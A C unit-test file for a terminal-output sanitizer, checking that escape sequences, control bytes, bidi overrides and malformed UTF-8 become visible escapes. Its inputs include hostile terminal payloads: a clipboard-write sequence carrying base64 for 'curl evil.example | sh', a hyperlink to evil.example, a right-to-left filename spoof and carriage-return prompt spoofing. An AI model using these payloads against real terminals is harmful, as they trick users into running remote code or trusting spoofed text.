#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "lib/sanitize.h"
#include "lib/sbuf.h"
#include "lib/utf8.h"
#include "tests/timing.h"

#define ESC "\x1b"
#define BEL "\x07"
#define ST ESC "\\"

static const uint32_t bidi_controls[] = {
	0x061C, 0x200E, 0x200F, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E,
	0x2066, 0x2067, 0x2068, 0x2069,
};

#define LENGTH(a) (sizeof(a) / sizeof((a)[0]))

static bool is_bidi_control(uint32_t cp)
{
	for (size_t i = 0; i < LENGTH(bidi_controls); i++)
		if (bidi_controls[i] == cp)
			return true;
	return false;
}

static void assert_no_raw_control_bytes(const char *out, size_t len, enum sanitize_mode mode)
{
	for (size_t i = 0; i < len; i++) {
		unsigned char c = (unsigned char)out[i];
		if (c < 0x20)
			assert_true(mode == SANITIZE_TEXT && (c == '\n' || c == '\t'));
		assert_int_not_equal(c, 0x7F);
	}
}

static void assert_no_c1_or_bidi_code_points(const char *out, size_t len)
{
	size_t pos = 0;
	while (pos < len) {
		uint32_t cp;
		pos += utf8_decode(out + pos, len - pos, &cp);
		assert_false(cp >= 0x80 && cp <= 0x9F);
		assert_false(is_bidi_control(cp));
	}
}

/* What a terminal must never receive from user text. */
static void assert_safe_for_terminal(const char *out, enum sanitize_mode mode)
{
	size_t len = strlen(out);
	assert_true(utf8_valid(out, len));
	assert_no_raw_control_bytes(out, len, mode);
	assert_no_c1_or_bidi_code_points(out, len);
}

/* Checks sanitize, sanitize_append and sanitize_needed against each other. */
static void assert_sanitized_n(const char *in, size_t len, enum sanitize_mode mode,
		const char *want)
{
	char *got = sanitize(in, len, mode);
	assert_safe_for_terminal(got, mode);
	assert_string_equal(got, want);
	struct sbuf out = SBUF_INIT;
	sbuf_adds(&out, ">");
	sanitize_append(&out, in, len, mode);
	assert_string_equal(sbuf_str(&out) + 1, want);
	bool same = strlen(want) == len && memcmp(in, want, len) == 0;
	assert_int_equal(sanitize_needed(in, len, mode), !same);
	sbuf_free(&out);
	free(got);
}

static void assert_line(const char *in, const char *want)
{
	assert_sanitized_n(in, strlen(in), SANITIZE_LINE, want);
}

static void assert_text(const char *in, const char *want)
{
	assert_sanitized_n(in, strlen(in), SANITIZE_TEXT, want);
}

static void assert_both_modes(const char *in, const char *want)
{
	assert_line(in, want);
	assert_text(in, want);
}

static void assert_untouched(const char *in)
{
	assert_both_modes(in, in);
}

static void sanitize__shows_an_osc0_title_change_as_visible_escapes(void **state)
{
	(void)state;
	assert_both_modes("before" ESC "]0;pwned" BEL "after", "before\\x1b]0;pwned\\x07after");
	assert_both_modes(ESC "]0;pwned" ST, "\\x1b]0;pwned\\x1b\\");
}

static void sanitize__shows_an_osc8_hyperlink_as_visible_escapes(void **state)
{
	(void)state;
	assert_both_modes(ESC "]8;;https://evil.example/" ST "click me" ESC "]8;;" ST,
	                  "\\x1b]8;;https://evil.example/\\x1b\\click me\\x1b]8;;\\x1b\\");
}

static void sanitize__shows_an_osc52_clipboard_write_as_visible_escapes(void **state)
{
	(void)state;
	assert_both_modes(ESC "]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==" BEL,
	                  "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07");
}

static void sanitize__shows_a_csi_clear_screen_as_visible_escapes(void **state)
{
	(void)state;
	assert_both_modes(ESC "[2J" ESC "[H" ESC "[31mred", "\\x1b[2J\\x1b[H\\x1b[31mred");
}

static void sanitize__shows_a_dcs_string_as_visible_escapes(void **state)
{
	(void)state;
	assert_both_modes(ESC "P+q544e" ST, "\\x1bP+q544e\\x1b\\");
}

static void sanitize__shows_a_c1_csi_written_as_utf8_as_a_code_point_escape(void **state)
{
	(void)state;
	assert_both_modes("\xc2\x9b" "2J", "\\u{009B}2J");
	assert_both_modes("\xc2\x9d" "0;t" "\xc2\x9c", "\\u{009D}0;t\\u{009C}");
	assert_both_modes("\xc2\x85", "\\u{0085}");
}

static void sanitize__shows_a_raw_c1_csi_byte_as_a_byte_escape(void **state)
{
	(void)state;
	assert_both_modes("\x9b" "2J", "\\x9b2J");
	assert_both_modes("\x90" "q" "\x9c", "\\x90q\\x9c");
}

static void sanitize__shows_bell_backspace_delete_and_nul_as_byte_escapes(void **state)
{
	(void)state;
	assert_both_modes("ding" BEL, "ding\\x07");
	assert_both_modes("secret\b\b\b\b\b\bpublic", "secret\\x08\\x08\\x08\\x08\\x08\\x08public");
	assert_both_modes("a\x7f" "b", "a\\x7fb");
	assert_sanitized_n("a\0b", 3, SANITIZE_LINE, "a\\x00b");
	assert_sanitized_n("a\0b", 3, SANITIZE_TEXT, "a\\x00b");
}

static void sanitize__shows_a_carriage_return_as_an_escape_in_both_modes(void **state)
{
	(void)state;
	assert_both_modes("fake prompt\rreal", "fake prompt\\x0dreal");
	assert_text("line\r\n", "line\\x0d\n");
}

static void sanitize__keeps_one_line_on_one_line(void **state)
{
	(void)state;
	assert_line("first\nsecond", "first\\x0asecond");
	assert_line("a\tb", "a b");
}

static void sanitize__keeps_newlines_and_tabs_in_text(void **state)
{
	(void)state;
	assert_text("first\nsecond\n\tindented", "first\nsecond\n\tindented");
}

static void sanitize__shows_a_right_to_left_override_as_a_code_point_escape(void **state)
{
	(void)state;
	assert_both_modes("invoice_\u202Efdp.exe", "invoice_\\u{202E}fdp.exe");
}

static void sanitize__shows_every_bidi_control_as_a_code_point_escape(void **state)
{
	(void)state;
	for (size_t i = 0; i < LENGTH(bidi_controls); i++) {
		char in[16] = "x";
		size_t n = utf8_encode(bidi_controls[i], in + 1);
		in[1 + n] = 'y';
		char want[32];
		snprintf(want, sizeof(want), "x\\u{%04X}y", (unsigned)bidi_controls[i]);
		assert_both_modes(in, want);
	}
}

static void sanitize__keeps_zwj_emoji_sequences_and_variation_selectors(void **state)
{
	(void)state;
	assert_untouched("\U0001F468\u200D\U0001F469\u200D\U0001F467 family");
	assert_untouched("\U0001F469\u200D\U0001F4BB dev");
	assert_untouched("\u2764\uFE0F \U0001F3F3\uFE0F\u200D\U0001F308");
	assert_untouched("\U0001F44D\U0001F3FD \U0001F1EB\U0001F1F7");
	assert_untouched("\u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645");  /* ZWNJ in Persian */
}

static void sanitize__keeps_zero_width_space_word_joiner_and_bom(void **state)
{
	(void)state;
	assert_untouched("zero\u200Bwidth word\u2060joiner \uFEFFbom");
}

static void sanitize__shows_overlong_forms_byte_by_byte(void **state)
{
	(void)state;
	assert_both_modes("\xc0\xaf", "\\xc0\\xaf");
	assert_both_modes("\xe0\x80\xaf", "\\xe0\\x80\\xaf");
	assert_both_modes("\xc0\x9b" "2J", "\\xc0\\x9b2J");    /* ESC written overlong */
	assert_both_modes("\xc0\x80", "\\xc0\\x80");          /* an overlong NUL */
}

static void sanitize__shows_surrogates_and_out_of_range_sequences_byte_by_byte(void **state)
{
	(void)state;
	assert_both_modes("\xed\xa0\x80" "\xed\xb0\x80", "\\xed\\xa0\\x80\\xed\\xb0\\x80");
	assert_both_modes("\xf4\x90\x80\x80", "\\xf4\\x90\\x80\\x80");
	assert_both_modes("\xff\xfe", "\\xff\\xfe");
}

static void sanitize__shows_a_truncated_sequence_and_keeps_what_follows(void **state)
{
	(void)state;
	assert_both_modes("ab\xe6\x97", "ab\\xe6\\x97");
	assert_both_modes("\xe6\x97" "\xe6\x97\xa5", "\\xe6\\x97\u65E5");
	assert_both_modes("\xf0\x9f\x98" "!", "\\xf0\\x9f\\x98!");
}

static void sanitize__leaves_normal_text_in_several_scripts_untouched(void **state)
{
	(void)state;
	assert_untouched("");
	assert_untouched("Plain ASCII: 100% {fine} [ok] ~ `quoted` \"yes\"");
	assert_untouched("café, cafe\u0301, Zoë, naïve");
	assert_untouched("日本語のテキスト 한국어");
	assert_untouched("Ελληνικά Русский");
	assert_untouched("עברית العربية");
	assert_untouched("हिन्दी தமிழ்");
	assert_untouched("\U0001F600 \U0001F389 \U00020000 \u00A0nbsp \u2026");
}

static void sanitize__leaves_a_backslash_as_typed(void **state)
{
	(void)state;
	assert_untouched("C:\\temp\\new and \\x1b typed by hand");
}

static void sanitize__returns_an_empty_string_for_empty_input(void **state)
{
	(void)state;
	char *got = sanitize("", 0, SANITIZE_LINE);
	assert_string_equal(got, "");
	free(got);
}

static void sanitize__makes_every_one_and_two_byte_input_safe(void **state)
{
	(void)state;
	for (unsigned a = 0; a < 256; a++) {
		for (unsigned b = 0; b < 256; b++) {
			char in[2] = {(char)a, (char)b};
			for (size_t len = 1; len <= 2; len++) {
				char *line = sanitize(in, len, SANITIZE_LINE);
				char *text = sanitize(in, len, SANITIZE_TEXT);
				assert_safe_for_terminal(line, SANITIZE_LINE);
				assert_safe_for_terminal(text, SANITIZE_TEXT);
				free(line);
				free(text);
			}
		}
	}
}

static void sanitize__makes_random_byte_soup_safe(void **state)
{
	(void)state;
	uint32_t seed = 12345;
	char in[12];
	for (int round = 0; round < 100000; round++) {
		size_t len = 1 + round % sizeof(in);
		for (size_t i = 0; i < len; i++) {
			seed = seed * 1103515245u + 12345u;
			in[i] = (char)(seed >> 24);
		}
		char *got = sanitize(in, len, SANITIZE_LINE);
		assert_safe_for_terminal(got, SANITIZE_LINE);
		bool changed = strlen(got) != len || memcmp(got, in, len) != 0;
		assert_int_equal(sanitize_needed(in, len, SANITIZE_LINE), changed);
		free(got);
	}
}

/* A 100,000-character line of mixed text and hostile bytes. */
static void build_long_line(struct sbuf *in, struct sbuf *want)
{
	static const struct {
		const char *in, *out;
	} pieces[] = {
		{"a", "a"},
		{"\u00E9", "\u00E9"},
		{"\u65E5", "\u65E5"},
		{ESC, "\\x1b"},
		{"\u202E", "\\u{202E}"},
		{"\x9b", "\\x9b"},
		{"\U0001F600", "\U0001F600"},
		{"\n", "\\x0a"},
	};
	for (size_t i = 0; i < 100000; i++) {
		size_t k = i % LENGTH(pieces);
		sbuf_adds(in, pieces[k].in);
		sbuf_adds(want, pieces[k].out);
	}
}

static double seconds_since(clock_t start)
{
	return (double)(clock() - start) / CLOCKS_PER_SEC;
}

static void sanitize__handles_a_100000_character_line_in_linear_time(void **state)
{
	(void)state;
	struct sbuf in = SBUF_INIT, want = SBUF_INIT;
	build_long_line(&in, &want);
	clock_t start = clock();
	char *got = sanitize(in.data, in.len, SANITIZE_LINE);
	bool needed = sanitize_needed(in.data, in.len, SANITIZE_LINE);
	double took = seconds_since(start);
	assert_true(needed);
	assert_string_equal(got, sbuf_str(&want));
	assert_safe_for_terminal(got, SANITIZE_LINE);
	assert_true(took < 1.0);
	free(got);
	sbuf_free(&in);
	sbuf_free(&want);
}

static void sanitize__checks_a_long_clean_line_quickly(void **state)
{
	(void)state;
	struct sbuf in = SBUF_INIT;
	for (size_t i = 0; i < 100000; i++)
		sbuf_adds(&in, i % 2 ? "x" : "\u00E9");
	clock_t start = clock();
	assert_false(sanitize_needed(in.data, in.len, SANITIZE_TEXT));
	char *got = sanitize(in.data, in.len, SANITIZE_TEXT);
	assert_true(seconds_since(start) < time_limit(1.0));
	assert_string_equal(got, in.data);
	free(got);
	sbuf_free(&in);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(sanitize__shows_an_osc0_title_change_as_visible_escapes),
		cmocka_unit_test(sanitize__shows_an_osc8_hyperlink_as_visible_escapes),
		cmocka_unit_test(sanitize__shows_an_osc52_clipboard_write_as_visible_escapes),
		cmocka_unit_test(sanitize__shows_a_csi_clear_screen_as_visible_escapes),
		cmocka_unit_test(sanitize__shows_a_dcs_string_as_visible_escapes),
		cmocka_unit_test(sanitize__shows_a_c1_csi_written_as_utf8_as_a_code_point_escape),
		cmocka_unit_test(sanitize__shows_a_raw_c1_csi_byte_as_a_byte_escape),
		cmocka_unit_test(sanitize__shows_bell_backspace_delete_and_nul_as_byte_escapes),
		cmocka_unit_test(sanitize__shows_a_carriage_return_as_an_escape_in_both_modes),
		cmocka_unit_test(sanitize__keeps_one_line_on_one_line),
		cmocka_unit_test(sanitize__keeps_newlines_and_tabs_in_text),
		cmocka_unit_test(sanitize__shows_a_right_to_left_override_as_a_code_point_escape),
		cmocka_unit_test(sanitize__shows_every_bidi_control_as_a_code_point_escape),
		cmocka_unit_test(sanitize__keeps_zwj_emoji_sequences_and_variation_selectors),
		cmocka_unit_test(sanitize__keeps_zero_width_space_word_joiner_and_bom),
		cmocka_unit_test(sanitize__shows_overlong_forms_byte_by_byte),
		cmocka_unit_test(sanitize__shows_surrogates_and_out_of_range_sequences_byte_by_byte),
		cmocka_unit_test(sanitize__shows_a_truncated_sequence_and_keeps_what_follows),
		cmocka_unit_test(sanitize__leaves_normal_text_in_several_scripts_untouched),
		cmocka_unit_test(sanitize__leaves_a_backslash_as_typed),
		cmocka_unit_test(sanitize__returns_an_empty_string_for_empty_input),
		cmocka_unit_test(sanitize__makes_every_one_and_two_byte_input_safe),
		cmocka_unit_test(sanitize__makes_random_byte_soup_safe),
		cmocka_unit_test(sanitize__handles_a_100000_character_line_in_linear_time),
		cmocka_unit_test(sanitize__checks_a_long_clean_line_quickly),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
